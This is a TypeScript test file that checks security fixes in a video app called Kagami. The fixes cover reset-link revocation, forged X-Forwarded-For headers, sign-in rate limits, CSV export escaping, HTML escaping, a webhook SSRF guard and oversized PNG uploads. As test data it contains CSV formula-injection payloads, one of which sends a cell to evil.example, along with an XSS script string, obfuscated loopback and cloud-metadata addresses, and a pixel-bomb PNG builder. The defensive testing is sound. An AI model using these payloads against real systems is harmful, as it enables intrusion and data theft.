// What an outside probe of a running Kagami found (issue 55), each written as the probe reproduced it: every test
// here failed before its fix. Google sign-in's findings are in google.test.ts, beside its stand-in for Google.
import { crc32, deflateSync } from 'node:zlib';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { eq, sql } from 'drizzle-orm';
import { history, rateLimits, videos, webhookDeliveries } from '../src/db/schema';
import { post as deliver } from '../src/domains/webhooks/delivery';
import { MAX_STREAMS_PER_USER } from '../src/domains/studio/events';
import { SIGN_IN_LIMITS } from '../src/domains/auth/sign-in-limits';
import { build, call, codeIn, latestMail, onboardedUser, PASSWORD, signUp, stretched, tusMetadata, type TestApp } from './helper';

let t: TestApp;
beforeAll(async () => {
  t = await build({ AUTH_RATE_LIMIT_MAX: '20' });
});
afterAll(() => t.close());

type Request = {
  method?: 'GET' | 'POST' | 'PUT' | 'DELETE';
  url: string;
  body?: unknown;
  token?: string;
  headers?: Record<string, string>;
};
/** A request from a client at `address` (the connection's own address, as a socket would give it). */
async function from(address: string, { method = 'GET', url, body, token, headers = {} }: Request, app = t.app) {
  const response = await app.inject({
    method,
    url,
    remoteAddress: address,
    payload: body as never,
    headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers },
  });
  return { status: response.statusCode, body: response.body ? response.json() : undefined, headers: response.headers };
}

let client = 0;
/** A client address not used before in this file. */
const newClient = () => `198.18.${Math.floor((client += 1) / 250)}.${client % 250}`;

/** Every reset link mailed to `email`, oldest first. */
async function resetTokens(email: string) {
  const { body } = await call(t.app, { url: `/api/dev/mailbox?to=${encodeURIComponent(email)}` });
  return (body.messages as { text: string }[])
    .map((m) => m.text.match(/reset-password\?token=([\w-]+)/)?.[1])
    .filter((token): token is string => Boolean(token))
    .reverse();
}
const forgot = (email: string) => from(newClient(), { method: 'POST', url: '/api/auth/forgot-password', body: { email } });
const reset = (token: string) =>
  from(newClient(), { method: 'POST', url: '/api/auth/reset-password', body: { token, password: 'taken-back-77' } });

describe('reset links end when the owner secures the account', () => {
  test('a password change revokes every outstanding link', async () => {
    const email = 'reset-change@example.com';
    const token = await signUp(t.app, email);
    await forgot(email);
    await forgot(email);
    const [t1, t2] = await resetTokens(email);
    const changed = await call(t.app, {
      method: 'POST',
      url: '/api/auth/change-password',
      token,
      body: { current_password: PASSWORD, new_password: 'new-horse-42' },
    });
    expect(changed.status).toBe(200);
    expect(await reset(t1!)).toMatchObject({ status: 401, body: { code: 'reset_link_invalid' } });
    expect(await reset(t2!)).toMatchObject({ status: 401, body: { code: 'reset_link_invalid' } });
  });

  test('a successful reset revokes the other links; a link mailed to the old address dies with the e-mail change', async () => {
    const email = 'reset-twice@example.com';
    const token = await signUp(t.app, email);
    await forgot(email);
    await forgot(email);
    const [t1, t2] = await resetTokens(email);
    expect((await reset(t1!)).status).toBe(200);
    expect((await reset(t2!)).status).toBe(401);

    const session = (await call(t.app, { method: 'POST', url: '/api/login', body: { email, password: 'taken-back-77' } })).body
      .access_token as string;
    expect(session).toBeTruthy();
    await forgot(email);
    const [, , old] = await resetTokens(email);
    const newEmail = 'reset-moved@example.com';
    await call(t.app, { method: 'POST', url: '/api/users/change-email-request', token: session, body: { new_email: newEmail } });
    const otp = codeIn((await latestMail(t.app, newEmail)).text);
    expect(
      (await call(t.app, { method: 'POST', url: '/api/users/change-email-verify-otp', token: session, body: { new_email: newEmail, otp } }))
        .status,
    ).toBe(200);
    expect(await reset(old!)).toMatchObject({ status: 401, body: { code: 'reset_link_invalid' } });
    expect(token).toBeTruthy();
  });

  test('a link works only while its address is the account’s, and account deletion revokes every link', async () => {
    const email = 'reset-deleted@example.com';
    const token = await signUp(t.app, email);
    const me = (await call(t.app, { url: '/api/profile', token })).body.id as string;
    await forgot(email);
    const [link] = await resetTokens(email);
    expect((await t.database.db.execute(sql`select email from password_resets where used_at is null and user_id = ${me}`)).rows).toEqual([
      { email },
    ]);
    expect((await call(t.app, { method: 'DELETE', url: `/api/users/${me}`, token, body: { email } })).status).toBe(204);
    expect(await reset(link!)).toMatchObject({ status: 401, body: { code: 'reset_link_invalid' } });
  });
});

describe('the client is the connection unless a named proxy says otherwise', () => {
  let tries = 0;
  /** A wrong password for an address never tried before, so that only the per-client limit counts. */
  const login = (address: string, headers: Record<string, string>, app = t.app) =>
    from(
      address,
      { method: 'POST', url: '/api/login', headers, body: { email: `nobody-${(tries += 1)}@example.com`, password: 'wrong-horse-1' } },
      app,
    );

  test('by default X-Forwarded-For is not believed: a new forged value per request is still the same client', async () => {
    const address = newClient();
    const answers = [];
    for (let i = 0; i < 23; i++) answers.push((await login(address, { 'x-forwarded-for': `203.0.113.${i + 1}` })).status);
    expect(answers.slice(0, 20).every((status) => status === 401)).toBe(true);
    expect(answers.slice(20)).toEqual([429, 429, 429]);
  });

  test('TRUST_PROXY names the proxies: their X-Forwarded-For is the client, read from the right; a forged left part is ignored', async () => {
    const behind = await build({ AUTH_RATE_LIMIT_MAX: '20', TRUST_PROXY: '10.0.0.0/8' });
    try {
      const proxy = '10.1.2.3';
      // The same real client behind the proxy, with a different forged address in front each time.
      const answers = [];
      for (let i = 0; i < 21; i++)
        answers.push((await login(proxy, { 'x-forwarded-for': `192.0.2.${i + 1}, 198.51.100.7` }, behind.app)).status);
      expect(answers.at(-1)).toBe(429);
      // Another client behind the same proxy is not held back.
      expect((await login(proxy, { 'x-forwarded-for': '198.51.100.8' }, behind.app)).status).toBe(401);
      // A client that is not the proxy cannot speak for others.
      const direct = newClient();
      for (let i = 0; i < 20; i++) await login(direct, { 'x-forwarded-for': `198.51.100.${100 + i}` }, behind.app);
      expect((await login(direct, { 'x-forwarded-for': '198.51.100.200' }, behind.app)).status).toBe(429);
    } finally {
      await behind.close();
    }
  });

  test('check-email is limited per client like sign-in', async () => {
    const address = newClient();
    const answers = [];
    for (let i = 0; i < 25; i++)
      answers.push((await from(address, { method: 'POST', url: '/api/check-email', body: { email: `probe-${i}@example.com` } })).status);
    expect(answers.filter((status) => status === 200)).toHaveLength(20);
    expect(answers.slice(20)).toEqual([429, 429, 429, 429, 429]);
  });
});

describe('wrong passwords slow one client down and cannot lock the owner out', () => {
  const email = 'locked-owner@example.com';
  const login = (address: string, password: string) => from(address, { method: 'POST', url: '/api/login', body: { email, password } });
  /** As if the client's latest wrong password was long ago (the slow-down waits from it). */
  const waitOut = () => t.database.db.update(rateLimits).set({ lastAt: sql`last_at - interval '1 hour'` });
  const ownClient = '192.0.2.10';

  beforeAll(async () => {
    await signUp(t.app, email);
    expect((await login(ownClient, PASSWORD)).status).toBe(200);
  });

  test('one client: free tries, then each next one must wait longer, then refused for this account only', async () => {
    const attacker = newClient();
    const { slowAfter, max } = SIGN_IN_LIMITS.perClient;
    for (let i = 0; i < slowAfter; i++) expect((await login(attacker, `guess-${i}-horse`)).status).toBe(401);
    const slowed = await login(attacker, 'guess-next-horse');
    expect(slowed).toMatchObject({
      status: 429,
      body: { code: 'sign_in_slow_down', message: 'Too many wrong passwords. Wait 1 seconds before trying again.' },
    });
    expect(Number(slowed.headers['retry-after'])).toBe(1);
    for (let i = slowAfter; i < max; i++) {
      await waitOut();
      expect((await login(attacker, `guess-${i}-horse`)).status).toBe(401);
    }
    await waitOut();
    const refused = await login(attacker, PASSWORD);
    expect(refused).toMatchObject({ status: 429, body: { code: 'too_many_attempts' } });
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(14 * 60);
    // The owner's own client is not held back by it.
    expect((await login(ownClient, PASSWORD)).status).toBe(200);
  });

  test('many clients: the account locks to clients it never signed in from; the owner is mailed; a reset unlocks', async () => {
    const { lockAfter } = SIGN_IN_LIMITS.perAccount;
    const failures = Number(
      (await t.database.db.execute(sql`select count from rate_limits where key like 'sign-in:account:%' order by last_at desc limit 1`))
        .rows[0]?.count ?? 0,
    );
    for (let i = failures; i < lockAfter; i++) expect((await login(newClient(), `spray-${i}-horse`)).status).toBe(401);
    const stranger = await login(newClient(), PASSWORD);
    expect(stranger).toMatchObject({ status: 429, body: { code: 'account_locked' } });
    // The owner's own client still signs in, under the attack.
    expect((await login(ownClient, PASSWORD)).status).toBe(200);
    const mail = await latestMail(t.app, email);
    expect(mail.subject).toBe('Kagami: sign-in to your account is paused');
    const link = mail.text.match(/reset-password\?token=([\w-]+)/)![1]!;
    expect(
      (await from(newClient(), { method: 'POST', url: '/api/auth/reset-password', body: { token: link, password: 'fresh-horse-88' } }))
        .status,
    ).toBe(200);
    expect((await login(newClient(), 'fresh-horse-88')).status).toBe(200);
  });
});

test('CSV cells that a spreadsheet would run as formulas are written inert', async () => {
  const { token, teamId } = await onboardedUser(t.app, 'csv@example.com');
  const me = (await call(t.app, { url: '/api/profile', token })).body.id as string;
  const formulaName = "@SUM(1+1)*cmd|' /C calc'!A0";
  await call(t.app, {
    method: 'PUT',
    url: '/api/users/update-profile',
    token,
    body: { name: formulaName, company_name: '', number_of_employees: '2-10', role: 'ENGINEER_DESIGNER_RESEARCHER' },
  });
  const names = [
    '=HYPERLINK("http://evil.example/x?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '\tTabbed',
    'Plain, safe',
  ];
  await t.database.db.insert(history).values(
    names.map((name, i) => ({
      teamId,
      createdBy: me,
      type: 'video_generation' as const,
      name,
      durationMs: 60_000 * (i + 1),
      createdAt: new Date(Date.now() - 60_000 * (10 - i)),
    })),
  );
  const csv = await t.app.inject({ url: `/api/teams/${teamId}/history.csv?type=app`, headers: { authorization: `Bearer ${token}` } });
  expect(csv.statusCode).toBe(200);
  const lines = csv.body
    .replace(/^\uFEFF/, '')
    .trim()
    .split('\n');
  const cells = lines.slice(1).map((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
  expect(cells.map((row) => row[2])).toEqual([
    '"Plain, safe"',
    "'\tTabbed",
    "'-2+3+cmd|' /C calc'!A0",
    "'+cmd|' /C calc'!A0",
    '"\'=HYPERLINK(""http://evil.example/x?""&A1,""Open"")"',
  ]);
  // Every creator cell is the formula name made inert; durations stay numbers.
  expect(new Set(cells.map((row) => row[4]))).toEqual(new Set([`'${formulaName}`]));
  expect(cells.map((row) => row[3])).toEqual(['5', '4', '3', '2', '1']);
});

describe('event streams', () => {
  let base = '';
  beforeAll(async () => {
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    base = `http://127.0.0.1:${(t.app.server.address() as AddressInfo).port}`;
  });
  /** Opens a stream and collects its events until it ends. */
  function open(teamId: string, token: string) {
    const controller = new AbortController();
    const events: string[] = [];
    const done = fetch(`${base}/api/teams/${teamId}/events`, {
      headers: { authorization: `Bearer ${token}` },
      signal: controller.signal,
    }).then(async (response) => {
      if (response.status !== 200) return { status: response.status, body: await response.json() };
      const decoder = new TextDecoder();
      for await (const chunk of response.body as unknown as AsyncIterable<Uint8Array>) events.push(decoder.decode(chunk));
      return { status: 200, body: null };
    });
    const close = () => {
      controller.abort();
      return done.catch(() => null);
    };
    return { events, done, close };
  }

  test('a removed member’s stream ends, and so does the stream of a session that logged out', async () => {
    const owner = await onboardedUser(t.app, 'stream-owner@example.com');
    await call(t.app, {
      method: 'POST',
      url: `/api/teams/${owner.teamId}/invitations`,
      token: owner.token,
      body: { email: 'stream-member@example.com' },
    });
    const code = (await latestMail(t.app, 'stream-member@example.com')).text.match(/join\?code=([\w-]+)/)![1];
    const member = await signUp(t.app, 'stream-member@example.com');
    await call(t.app, { method: 'POST', url: '/api/teams/join', token: member, body: { code } });
    const memberId = (await call(t.app, { url: '/api/profile', token: member })).body.id as string;

    const watching = open(owner.teamId, member);
    await waitFor(() => watching.events.join('').includes('event: ready'));
    expect(
      (await call(t.app, { method: 'DELETE', url: `/api/teams/${owner.teamId}/members/${memberId}`, token: owner.token })).status,
    ).toBe(204);
    expect((await withTimeout(watching.done)).status).toBe(200);
    expect(watching.events.join('')).toContain('event: end\ndata: {"reason":"membership_ended"}');

    const ownStream = open(owner.teamId, owner.token);
    await waitFor(() => ownStream.events.join('').includes('event: ready'));
    expect((await call(t.app, { method: 'POST', url: '/api/logout', token: owner.token })).status).toBe(204);
    await withTimeout(ownStream.done);
    expect(ownStream.events.join('')).toContain('"reason":"session_ended"');
  });

  test(`a user may have ${MAX_STREAMS_PER_USER} streams open; one more is refused with 429`, async () => {
    const { token, teamId } = await onboardedUser(t.app, 'streams@example.com');
    const streams = Array.from({ length: MAX_STREAMS_PER_USER }, () => open(teamId, token));
    await waitFor(() => streams.every((s) => s.events.join('').includes('event: ready')));
    const extra = open(teamId, token);
    expect(await extra.done).toMatchObject({ status: 429, body: { code: 'too_many_streams' } });
    await streams[0]!.close();
    const again = open(teamId, token);
    await waitFor(() => again.events.join('').includes('event: ready'));
    await Promise.all([...streams, again].map((s) => s.close()));
  });
});

describe('every HTML page escapes what it writes', () => {
  const HOSTILE = `"><xmp>'<script>alert(1)</script>&amp;`;
  const raw = (page: string) => ['<xmp>', '<script'].filter((needle) => page.includes(needle));

  test('the billing portal takes only a whole token, and a forged tail is not written into the page', async () => {
    const { token } = await onboardedUser(t.app, 'portal@example.com');
    const { url } = (
      await call(t.app, {
        method: 'POST',
        url: '/api/stripe/billing-portal-session',
        token,
        body: { return_url: 'http://localhost:8080/subscription' },
      })
    ).body;
    const path = new URL(url as string).pathname;
    expect((await t.app.inject({ url: path })).statusCode).toBe(200);
    const forged = await t.app.inject({ url: `${path}.%22%3E%3Cxmp%3E` });
    expect(forged.statusCode).toBe(401);
    expect(raw(forged.body)).toEqual([]);
    const hostileQuery = await t.app.inject({
      url: `${path}?return_url=${encodeURIComponent(`http://localhost:8080/${HOSTILE}`)}&lang=${encodeURIComponent(HOSTILE)}`,
    });
    expect(hostileQuery.statusCode).toBe(200);
    expect(raw(hostileQuery.body)).toEqual([]);
  });

  test('the checkout page echoes a hostile card form escaped', async () => {
    const { token } = await onboardedUser(t.app, 'checkout@example.com');
    const me = (await call(t.app, { url: '/api/profile', token })).body.id as string;
    const customer = (
      await call(t.app, {
        method: 'POST',
        url: '/api/stripe/customer-session',
        token,
        body: { email: 'checkout@example.com', user_id: me },
      })
    ).body;
    const session = await call(t.app, {
      method: 'POST',
      url: '/api/stripe/create-checkout-session',
      token,
      body: {
        price_id: 'price_creator_month_usd',
        customer_id: customer.customer_id,
        success_url: 'http://localhost:8080/subscription',
        cancel_url: 'http://localhost:8080/subscription',
      },
    });
    expect(session.status).toBe(200);
    const page = await t.app.inject({
      method: 'POST',
      url: `/api/billing/checkout/${session.body.session_id}?lang=${encodeURIComponent(HOSTILE)}`,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({ card_number: HOSTILE, expiry: HOSTILE, cvc: '1' }).toString(),
    });
    expect(page.statusCode).toBe(400);
    expect(page.body).toContain('value="&quot;&gt;&lt;xmp&gt;');
    expect(raw(page.body)).toEqual([]);
  });

  test('a shared video’s watch, embed and gone pages', async () => {
    const { token, teamId } = await onboardedUser(t.app, 'share-hostile@example.com');
    const [video] = await t.database.db
      .insert(videos)
      .values({ teamId, name: HOSTILE, language: HOSTILE, status: 'ready', output: 'hostile.mp4' } as never)
      .returning();
    const shared = await call(t.app, {
      method: 'PUT',
      url: `/api/teams/${teamId}/videos/${video!.id}/share`,
      token,
      body: { allow_download: true },
    });
    const path = new URL(shared.body.url as string).pathname;
    for (const url of [path, `${path}/embed`]) {
      const page = await t.app.inject({ url });
      expect([url, page.statusCode]).toEqual([url, 200]);
      expect([url, raw(page.body)]).toEqual([url, []]);
      expect(page.body).toContain('&quot;&gt;&lt;xmp&gt;&#39;&lt;script&gt;alert(1)&lt;/script&gt;&amp;amp;');
    }
    await t.database.db.update(videos).set({ status: 'failed' }).where(eq(videos.id, video!.id));
    const gone = await t.app.inject({ url: path, headers: { 'accept-language': HOSTILE } });
    expect(gone.statusCode).toBe(404);
    expect(raw(gone.body)).toEqual([]);
  });

  test('a mail with a hostile team and inviter name', async () => {
    const { token, teamId } = await onboardedUser(t.app, 'mail-hostile@example.com', HOSTILE);
    await call(t.app, { method: 'POST', url: `/api/teams/${teamId}/invitations`, token, body: { email: 'mail-invited@example.com' } });
    const mail = await latestMail(t.app, 'mail-invited@example.com');
    expect(raw(mail.html)).toEqual([]);
    expect(mail.html).toContain('&lt;xmp&gt;');
  });
});

describe('the webhook guard decides on the parsed address', () => {
  const SPELLINGS = [
    'http://[::127.0.0.1]/',
    'http://[2002:7f00:1::1]/',
    'http://[::ffff:127.0.0.1]/',
    'http://[0:0:0:0:0:ffff:7f00:1]/',
    'http://[::ffff:a00:1]/',
    'http://[64:ff9b::a9fe:a9fe]/',
    'http://[64:ff9b:1::1]/',
    'http://[2001:0::1]/',
    'http://[::]/',
    'http://[::1]/',
    'http://[fd00::1]/',
    'http://[fe80::1]/',
    'http://[fec0::1]/',
    'http://[100::1]/',
    'http://0x7f.1/',
    'http://2130706433/',
    'http://0177.0.0.1/',
    'http://127.1/',
    'http://169.254.169.254/',
    'http://100.64.0.1/',
    'http://192.168.0.1/',
  ];

  test('every spelling of a loopback, private, link-local, unique-local, 6to4 or NAT64 address is refused at creation', async () => {
    const { token, teamId } = await onboardedUser(t.app, 'webhook-guard@example.com');
    const add = (url: string) =>
      call(t.app, { method: 'POST', url: `/api/teams/${teamId}/webhooks`, token, body: { url, events: ['video.ready'] } });
    const accepted = [];
    for (const url of SPELLINGS) {
      const answer = await add(url);
      if (answer.status !== 400 || answer.body.code !== 'webhook_url_private') accepted.push([url, answer.status, answer.body.code]);
    }
    expect(accepted).toEqual([]);
    // A public address is taken.
    expect((await add('http://[2606:4700:4700::1111]/kagami')).status).toBe(201);
  });

  test('and again at delivery, whatever the stored URL says', async () => {
    let reached = 0;
    const receiver = createServer((_request, response) => {
      reached += 1;
      response.end();
    });
    await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
    const { port } = receiver.address() as AddressInfo;
    const rules = { allowPrivate: false, requireHttps: false };
    try {
      for (const host of ['[::ffff:7f00:1]', '[::127.0.0.1]', '127.1', 'localhost']) {
        expect([host, await deliver(`http://${host}:${port}/`, {}, '{}', rules)]).toEqual([
          host,
          { statusCode: null, error: 'webhook_destination_private' },
        ]);
      }
      expect(reached).toBe(0);
    } finally {
      receiver.close();
    }
  });
});

describe('pictures over the pixel budget are refused before they are decoded', () => {
  /** A real PNG of `width` x `height` grey pixels: all zeros, so a few hundred KB hold 144 megapixels. */
  function bigPng(width: number, height: number) {
    const chunk = (type: string, data: Buffer) => {
      const length = Buffer.alloc(4);
      length.writeUInt32BE(data.length);
      const crc = Buffer.alloc(4);
      crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type), data])));
      return Buffer.concat([length, Buffer.from(type), data, crc]);
    };
    const header = Buffer.alloc(13);
    header.writeUInt32BE(width, 0);
    header.writeUInt32BE(height, 4);
    header.set([8, 0, 0, 0, 0], 8);
    const rows = Buffer.alloc((width + 1) * height);
    return Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      chunk('IHDR', header),
      chunk('IDAT', deflateSync(rows, { level: 9 })),
      chunk('IEND', Buffer.alloc(0)),
    ]);
  }

  test('a 12000x12000 PNG, as a background and as an avatar photo: 422 image_too_many_pixels, in English and Japanese', async () => {
    const { token, teamId } = await onboardedUser(t.app, 'pixels@example.com');
    const png = bigPng(12_000, 12_000);
    expect(png.length).toBeLessThan(1024 * 1024);
    for (const purpose of ['background_image', 'avatar_photo']) {
      const created = await t.app.inject({
        method: 'POST',
        url: '/api/uploads',
        headers: {
          authorization: `Bearer ${token}`,
          'tus-resumable': '1.0.0',
          'upload-length': String(png.length),
          'upload-metadata': tusMetadata({ purpose, team_id: teamId, filename: 'huge.png', filetype: 'image/png' }),
        },
      });
      expect(created.statusCode).toBe(201);
      const sent = await t.app.inject({
        method: 'PATCH',
        url: new URL(created.headers.location as string, 'http://x').pathname,
        headers: {
          authorization: `Bearer ${token}`,
          'tus-resumable': '1.0.0',
          'upload-offset': '0',
          'content-type': 'application/offset+octet-stream',
        },
        payload: png,
      });
      expect([purpose, sent.statusCode, sent.json()]).toEqual([
        purpose,
        422,
        { code: 'image_too_many_pixels', message: 'The picture is too large: at most 8,000 pixels on a side and 40 megapixels.' },
      ]);
    }
    const ja = (await import('@kagami/shared/locales/ja/common.json')).errors.image_too_many_pixels;
    expect(ja).toContain('8,000');
  });
});

test('a delivery whose endpoint was removed cannot be sent again (409), in the app and the API', async () => {
  const { token, teamId } = await onboardedUser(t.app, 'resend@example.com');
  const endpoint = await call(t.app, {
    method: 'POST',
    url: `/api/teams/${teamId}/webhooks`,
    token,
    body: { url: 'http://[2606:4700:4700::1111]/hooks', events: ['video.ready'] },
  });
  // A delivery of the log that already failed (one made here is never attempted: this machine reaches no public address).
  const [delivery] = await t.database.db
    .insert(webhookDeliveries)
    .values({
      teamId,
      endpointId: endpoint.body.id,
      url: endpoint.body.url,
      event: 'video.ready',
      payload: {},
      status: 'failed',
      retryUntil: new Date(),
    })
    .returning();
  const deliveryId = delivery!.id;
  expect((await call(t.app, { method: 'DELETE', url: `/api/teams/${teamId}/webhooks/${endpoint.body.id}`, token })).status).toBe(204);
  const resent = await call(t.app, { method: 'POST', url: `/api/teams/${teamId}/webhooks/deliveries/${deliveryId}/resend`, token });
  expect(resent).toMatchObject({ status: 409, body: { code: 'webhook_endpoint_removed' } });
  const key = (await call(t.app, { method: 'POST', url: `/api/teams/${teamId}/api-key`, token })).body.api_key as string;
  const viaApi = await call(t.app, {
    method: 'POST',
    url: `/api/v1/webhooks/deliveries/${deliveryId}/resend`,
    headers: { 'x-api-key': key },
  });
  expect(viaApi).toMatchObject({ status: 409, body: { code: 'webhook_endpoint_removed' } });
  const [row] = await t.database.db.select().from(webhookDeliveries).where(eq(webhookDeliveries.id, deliveryId));
  expect(row!.status).toBe('failed');
  const log = await call(t.app, { url: `/api/teams/${teamId}/webhooks/deliveries`, token });
  expect(log.body.items[0]).toMatchObject({ id: deliveryId, endpoint_removed: true });
});

async function waitFor(done: () => boolean, ms = stretched(10_000)) {
  const deadline = Date.now() + ms;
  while (!done()) {
    if (Date.now() > deadline) throw new Error('timed out');
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}
async function withTimeout<T>(promise: Promise<T>, ms = stretched(10_000)) {
  let timer: ReturnType<typeof setTimeout> | undefined;
  const late = new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error('timed out')), ms)));
  try {
    return await Promise.race([promise, late]);
  } finally {
    clearTimeout(timer);
  }
}
